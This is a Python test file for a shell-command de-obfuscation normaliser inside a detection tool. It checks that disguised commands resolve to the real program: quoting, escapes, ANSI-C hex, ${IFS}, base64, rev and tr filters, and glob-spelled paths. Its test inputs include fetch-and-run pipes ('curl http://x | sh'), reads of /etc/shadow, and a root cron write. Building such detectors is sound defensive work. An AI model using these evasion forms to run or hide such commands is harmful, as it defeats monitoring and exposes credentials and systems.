"""Each de-obfuscation transformation applied to the parse tree, on its own."""

from __future__ import annotations

import pytest

from ssm_warden.detect.normalize import normalize
from ssm_warden.detect.shell.decode import ansi_c_decode, apply_filter, b64_text, literal_output
from ssm_warden.detect.shell.words import canonical_hosts, command_name, resolve_glob


def _argvs(text: str) -> list[tuple[str, ...]]:
    return [e.argv for e in normalize(text).execs]


@pytest.mark.parametrize(
    ("typed", "program"),
    [
        ("c'a't /etc/hostname", "cat"),  # quotes
        ('c"a"t /etc/hostname', "cat"),
        ("c\\at /etc/hostname", "cat"),  # escapes
        ("$'\\x63\\x61\\x74' /etc/hostname", "cat"),  # ANSI-C hex
        ("$'\\143\\141\\164' /etc/hostname", "cat"),  # ANSI-C octal
        ("x=ca;y=t;$x$y /etc/hostname", "cat"),  # variables assigned earlier
        ("cat${IFS}/etc/hostname", "cat"),  # ${IFS}
        ("$(echo cat) /etc/hostname", "cat"),  # command substitution of a literal
        ("`printf cat` /etc/hostname", "cat"),  # backticks, printf
        ("{cat,/etc/hostname}", "cat"),  # brace expansion instead of spaces
        ("/usr/bin/cat /etc/hostname", "cat"),  # program path
        ("sudo -u root env A=1 nohup timeout 5 nice -n 5 cat /etc/hostname", "cat"),  # wrappers
    ],
)
def test_each_disguise_of_a_program_name_reads_as_the_program(typed: str, program: str) -> None:
    assert any(argv[0] == program and "/etc/hostname" in argv for argv in _argvs(typed)), _argvs(typed)


def test_payloads_are_read_again() -> None:
    # bash -c, eval, decoded base64, here-string to a shell, find -exec, xargs
    text = "bash -c 'id'; eval \"uname -a\"; echo d2hvYW1p | base64 -d | sh; sh <<< 'hostname'"
    names = {argv[0] for argv in _argvs(text)}
    assert {"id", "uname", "whoami", "hostname"} <= names
    assert ("rm", "-f", "{}") in _argvs("find /tmp -name x -exec rm -f {} \\;")


def test_sudo_is_remembered_as_privilege() -> None:
    execs = normalize("sudo -u root cat /etc/shadow").execs
    assert execs[0].argv[0] == "cat" and execs[0].privileged


def test_rev_and_tr_and_base64_filters_decode() -> None:
    assert apply_filter(["rev"], "di") == "id"
    assert apply_filter(["tr", "a-z", "b-za"], "hal") == "ibm"
    assert apply_filter(["base64", "-d"], "aWQ=") == "id"
    assert b64_text("Y3VybCBodHRwOi8veC95IHwgc2g=") == "curl http://x/y | sh"


def test_echo_and_printf_literals() -> None:
    assert literal_output(["printf", "%s%s", "i", "d"]) == "id"
    assert literal_output(["echo", "-e", "\\x69d"]) == "id"
    assert ansi_c_decode("\\x2fbin\\x2fsh") == "/bin/sh"


def test_globs_hosts_and_names() -> None:
    assert resolve_glob("/???/s?a?o?") == "/etc/shadow"
    assert canonical_hosts("http://0x7f000001/x") == "http://127.0.0.1/x"
    assert canonical_hosts("3232235777") == "192.168.1.1"
    assert command_name("/tmp/x/curl") == "curl"


def test_redirections_and_heredocs_are_kept() -> None:
    execs = normalize("cat <<EOF > /etc/cron.d/x\n* * * * * root id\nEOF").execs
    assert any(("> /etc/cron.d/x" in " ".join(f"{op} {t}" for op, t in e.redirs)) for e in execs)
    assert ("id",) in [e.argv for e in normalize("sh <<EOF\nid\nEOF").execs]


def test_arguments_after_a_redirection_stay_arguments() -> None:
    argv = normalize("find / -name x 2>/dev/null -exec ls {} +").execs[0].argv
    assert "-exec" in argv


def test_an_unbalanced_quote_is_a_literal_and_the_rest_is_read() -> None:
    names = {argv[0] for argv in _argvs("echo 'oops; curl http://x | sh")}
    assert "echo" in names
